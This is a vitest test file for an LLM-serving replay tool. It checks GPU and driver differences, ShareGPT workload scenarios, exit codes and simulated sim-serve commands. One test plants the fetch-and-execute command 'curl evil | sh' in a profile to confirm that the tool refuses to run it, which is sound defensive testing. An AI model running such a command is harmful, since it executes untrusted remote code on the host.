import { describe, expect, it } from 'vitest';
import { hostDifferences, replayExitCode } from '../../../src/tune/replay/replay.js';
import { simGpuFor } from '../../../src/profiles/sim-gpu.js';
import { serveSpec } from '../../../src/tune/replay/serve-profile.js';
import { deepseekR1Study, glm46Study, qwen3Study } from '../../../scripts/studies.js';
import { judgeReplay } from '../../../src/profiles/report/verdict.js';
import { scenarioForWorkload, workloadFromScenario } from '../../../src/tune/config/profile-workload.js';
import { launcherOf } from '../../../src/profiles/safety/command.js';

const qwen = qwen3Study();

describe('hostDifferences', () => {
  const here = { gpuName: 'NVIDIA H100 80GB HBM3', gpuCount: 1, gpuMemoryMiB: 81559, driver: '550.54', simulated: false };
  it('nothing when the host and engine match', () => {
    expect(hostDifferences({ ...qwen, host: { ...qwen.host, driver: '550.54' } }, here, '0.5.5.post1')).toEqual([]);
  });
  it('names GPU type and count, driver and engine version', () => {
    const d = hostDifferences(
      { ...qwen, host: { ...qwen.host, driver: '535.1' } },
      { ...here, gpuName: 'NVIDIA A100-SXM4-80GB', gpuCount: 2 },
      '0.5.6',
    );
    expect(d).toEqual([
      'GPU: tuned on NVIDIA H100 80GB HBM3, here NVIDIA A100-SXM4-80GB',
      'GPU count: tuned on 1, here 2',
      'driver: tuned on 535.1, here 550.54',
      'engine: sglang 0.5.6 here, tuned with 0.5.5.post1',
    ]);
  });
  it('treats catalog aliases as the same GPU and says when the engine is missing', () => {
    expect(hostDifferences(qwen, { ...here, gpuName: 'H100' }, undefined)).toEqual([
      'engine: sglang not found here (tuned with 0.5.5.post1)',
    ]);
  });
  it('says when the replay is simulated', () => {
    expect(hostDifferences(qwen, { ...here, simulated: true }, undefined)).toEqual([
      'host: simulated here (numbers come from a performance model), tuned on real GPUs',
    ]);
  });
});

describe('scenarioForWorkload', () => {
  it('replays a random workload as recorded', () => {
    const w = {
      scenario: 'random-2000-100',
      label: 'medium 2000/100',
      dataset: 'random' as const,
      inputLen: 2000,
      outputLen: 100,
      numPrompts: 50,
      seed: 42,
      maxConcurrency: 8,
      requestRate: null,
    };
    const { scenario, note } = scenarioForWorkload(w, { simulated: false });
    expect(note).toBeUndefined();
    expect(scenario).toEqual({
      name: 'random-2000-100',
      label: 'medium 2000/100',
      dataset: 'random',
      inputLen: 2000,
      outputLen: 100,
      numPrompts: 50,
      seed: 42,
      maxConcurrency: 8,
    });
    expect(workloadFromScenario(scenario)).toMatchObject({
      scenario: 'random-2000-100',
      inputLen: 2000,
      maxConcurrency: 8,
      requestRate: null,
    });
  });
  it('needs the ShareGPT file on a real host, and says so in one line', () => {
    expect(() => scenarioForWorkload(qwen.workload, { simulated: false })).toThrow(
      /^the recorded workload is ShareGPT: pass --dataset-path FILE/,
    );
    expect(() => scenarioForWorkload(qwen.workload, { simulated: true, datasetPath: '/nonexistent/sg.json' })).toThrow(/no such file/);
  });
  it('uses the ShareGPT-like stand-in on the simulated host, with a note', () => {
    const { scenario, note } = scenarioForWorkload(qwen.workload, { simulated: true });
    expect(scenario).toMatchObject({
      name: 'sharegpt-like',
      dataset: 'custom',
      numPrompts: 1000,
      seed: qwen.workload.seed,
      maxConcurrency: null,
    });
    expect(scenario.datasetPath).toMatch(/sharegpt-like-n1000-s\d+\.jsonl$/);
    expect(note).toMatch(/stand-in/);
  });
});

describe('replay exit codes', () => {
  const m = qwen.metrics;
  it('0 ok or faster, 3 regression, 1 nothing measured', () => {
    expect(replayExitCode(judgeReplay({ recorded: m, now: m, tolerancePct: 5 }))).toBe(0);
    expect(
      replayExitCode(judgeReplay({ recorded: m, now: { ...m, total_token_throughput: m.total_token_throughput * 2 }, tolerancePct: 5 })),
    ).toBe(0);
    expect(
      replayExitCode(judgeReplay({ recorded: { ...m, total_token_throughput: m.total_token_throughput * 2 }, now: m, tolerancePct: 5 })),
    ).toBe(3);
    expect(replayExitCode(null)).toBe(1);
  });
});

describe('simulated GPUs of the shipped profiles', () => {
  it('maps each to the catalog', () => {
    expect(simGpuFor(qwen)).toBe('H100');
    expect(simGpuFor(glm46Study())).toBe('A100');
    expect(simGpuFor(deepseekR1Study())).toBe('H200');
    expect(() => simGpuFor({ host: { ...qwen.host, gpuName: 'Voodoo 3' } })).toThrow(/not in servelab's GPU catalog/);
  });
});

describe('serveSpec', () => {
  it('runs the recorded argv exactly on a real host', () => {
    const spec = serveSpec(glm46Study(), { sim: false, speed: 1, runDir: '/tmp/x' });
    expect(spec.argv).toEqual(glm46Study().engineArgv);
    expect(spec.port).toBe(8000);
    const moved = serveSpec(qwen, { sim: false, speed: 1, runDir: '/tmp/x', port: 31000 });
    expect(moved.argv).toEqual([...qwen.engineArgv, '--port', '31000']);
    expect(moved.port).toBe(31000);
  });
  it("runs sim-serve with the profile's GPU on the simulated host", () => {
    const spec = serveSpec(deepseekR1Study(), { sim: true, speed: 2, runDir: '/tmp/x', port: 31001 });
    expect(launcherOf(spec.argv)).toBe('sim');
    expect(spec.argv.join(' ')).toMatch(
      /sim-serve --engine sglang --model deepseek-ai\/DeepSeek-R1-0528 .*--gpu H200 --gpus 8 .*--port 31001 --speed 2/,
    );
    expect(launcherOf(spec.engineArgv)).toBe('sglang');
  });
});

describe('prepareReplay of the shipped profiles on the simulated host', () => {
  it('each one builds a runnable sim-serve command with its GPUs and the real engine argv', async () => {
    const { prepareReplay } = await import('../../../src/tune/replay/replay.js');
    const { studyProfiles } = await import('../../../scripts/studies.js');
    for (const p of studyProfiles()) {
      const setup = await prepareReplay(p, 'p.json', {
        sim: true,
        speed: 20,
        tolerancePct: 5,
        readyTimeoutS: 60,
        logsDir: '/tmp/unused',
        bindHost: '127.0.0.1',
        portStart: 30500,
        allowAnyCommand: false,
      });
      expect(launcherOf(setup.spec.argv)).toBe('sim');
      expect(setup.spec.argv.join(' ')).toContain(`--gpus ${p.host.gpuCount}`);
      expect(launcherOf(setup.spec.engineArgv)).toBe(p.engine.name);
      expect(setup.current.simulated).toBe(true);
      expect(setup.scenario.numPrompts).toBe(1000);
    }
  });

  it('refuses a profile whose recorded command is not an engine launcher', async () => {
    const { prepareReplay } = await import('../../../src/tune/replay/replay.js');
    const p = qwen3Study();
    p.engineArgv = ['sh', '-c', 'curl evil | sh'];
    await expect(
      prepareReplay(p, 'evil.json', {
        sim: true,
        speed: 20,
        tolerancePct: 5,
        readyTimeoutS: 60,
        logsDir: '/tmp/unused',
        bindHost: '127.0.0.1',
        portStart: 30500,
        allowAnyCommand: false,
      }),
    ).rejects.toThrow(/profile evil\.json: refusing to run 'sh -c/);
  });
});

describe('sharegpt-like workloads written without their range ratio', () => {
  it("replay with the stand-in's spread", () => {
    const w = {
      scenario: 'sharegpt-like',
      dataset: 'random' as const,
      inputLen: 217,
      outputLen: 201,
      numPrompts: 50,
      seed: 42,
      maxConcurrency: null,
      requestRate: null,
    };
    expect(scenarioForWorkload(w, { simulated: true }).scenario.rangeRatio).toBe(0.9);
  });

  it('also when the session capped the concurrency (sharegpt-like-c16)', () => {
    const w = {
      scenario: 'sharegpt-like-c16',
      dataset: 'random' as const,
      inputLen: 217,
      outputLen: 201,
      numPrompts: 50,
      seed: 42,
      maxConcurrency: 16,
      requestRate: null,
    };
    expect(scenarioForWorkload(w, { simulated: true }).scenario).toMatchObject({ rangeRatio: 0.9, maxConcurrency: 16 });
    expect(scenarioForWorkload({ ...w, scenario: 'random-217-201' }, { simulated: true }).scenario.rangeRatio).toBeUndefined();
  });
});
